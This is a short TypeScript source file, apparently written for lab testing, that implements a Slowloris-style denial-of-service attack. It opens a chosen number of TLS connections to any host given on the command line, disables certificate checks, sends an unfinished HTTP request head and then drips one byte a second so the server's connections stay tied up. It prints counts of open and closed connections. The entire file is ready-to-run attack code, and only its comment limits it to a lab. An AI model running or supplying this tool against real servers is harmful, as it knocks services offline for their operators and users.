/**
 * Opens many TLS connections to a server and sends the head of a request, a byte a second, never to its end. Prints
 * {"open":N,"closed":N} every second. A program for the lab's hosts.
 *
 *     node slow-loris.ts HOST COUNT
 */
import { connect } from 'node:tls';

const [host = '', count] = process.argv.slice(2);
const HEAD = 'GET /healthz HTTP/1.1\r\nHost: relay.lab\r\nX-Slow: ';
let [open, closed] = [0, 0];

for (let number = 0; number < Number(count); number++) {
  const socket = connect({ host, port: 443, rejectUnauthorized: false }, () => {
    open++;
    socket.write(HEAD);
    const dripping = setInterval(() => socket.write('x'), 1_000);
    socket.once('close', () => {
      clearInterval(dripping);
      open--;
      closed++;
    });
  });
  socket.on('error', () => undefined);
}
setInterval(() => process.stdout.write(`${JSON.stringify({ open, closed })}\n`), 1_000);
